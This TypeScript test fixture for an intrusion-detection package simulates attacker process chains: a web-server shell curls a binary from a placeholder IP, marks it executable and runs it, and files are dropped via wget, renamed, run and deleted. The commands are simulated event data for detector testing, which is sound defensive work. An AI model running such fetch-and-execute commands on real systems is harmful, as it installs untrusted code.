import type { ActedEvent } from "@limpid/core";
import { Scene } from "../../packages/detect/src/testing/scene.ts";

/** Each step of a story takes a moment, as it does on a host. */
export class Ticking extends Scene {
  override emit(event: Parameters<Scene["emit"]>[0]): string {
    this.now += 3;
    return super.emit(event);
  }
}

/** What two sensors of one host may both have seen. */
export const STORIES: Readonly<Record<string, (scene: Scene) => void>> = {
  "a web server's shell downloads and runs": (scene) => {
    const server = scene.process({ image: "/usr/sbin/nginx" });
    const shell = server.fork().exec("/usr/bin/dash", ["sh", "-c", "curl -o /tmp/.x/agent http://203.0.113.7/a"]);
    shell.fork().exec("/usr/bin/curl", "curl -o /tmp/.x/agent http://203.0.113.7/a").create("/tmp/.x/agent").exit();
    scene.wait(40);
    shell.fork().exec("/usr/bin/chmod", "chmod +x /tmp/.x/agent").chmod("/tmp/.x/agent").exit();
    shell.fork().exec("/tmp/.x/agent").exit();
  },
  "it is renamed, runs twice and is removed": (scene) => {
    const python = scene.process({ image: "/usr/sbin/cron" }).fork().exec("/usr/bin/python3.11", "python3 -m x");
    python.create("/dev/shm/.part").rename("/dev/shm/.part", "/dev/shm/.d").chmod("/dev/shm/.d");
    python.fork().exec("/dev/shm/.d", "/dev/shm/.d one").exit();
    scene.wait(1700);
    python.fork().exec("/dev/shm/.d", "/dev/shm/.d two").exit();
    scene.wait(400);
    python.unlink("/dev/shm/.d");
  },
  "two files of one name, one after the other": (scene) => {
    const shell = scene.process({ image: "/usr/sbin/sshd" }).fork().exec("/usr/bin/bash", "bash");
    const drop = () => {
      shell
        .fork()
        .exec("/usr/bin/wget", "wget -O /var/tmp/a http://h/a")
        .create("/var/tmp/a")
        .chmod("/var/tmp/a")
        .exit();
      shell.fork().exec("/var/tmp/a").exit();
      shell.fork().exec("/usr/bin/rm", "rm /var/tmp/a").unlink("/var/tmp/a").exit();
    };
    drop();
    scene.wait(4000);
    drop();
  },
  "one process runs three programs in a row": (scene) => {
    const shell = scene.process({ image: "/usr/sbin/nginx" }).fork();
    shell
      .exec("/usr/bin/env", "env x=1 sh")
      .exec("/usr/bin/dash", "sh -c y")
      .exec("/usr/bin/curl", "curl -O http://h/z");
    shell.create("/tmp/z").chmod("/tmp/z");
    scene.wait(900);
    shell.exec("/tmp/z").exit();
  },
};

/** What happens in a story. */
export function tell(story: (scene: Scene) => void): readonly ActedEvent[] {
  const scene = new Ticking();
  story(scene);
  return scene.events;
}
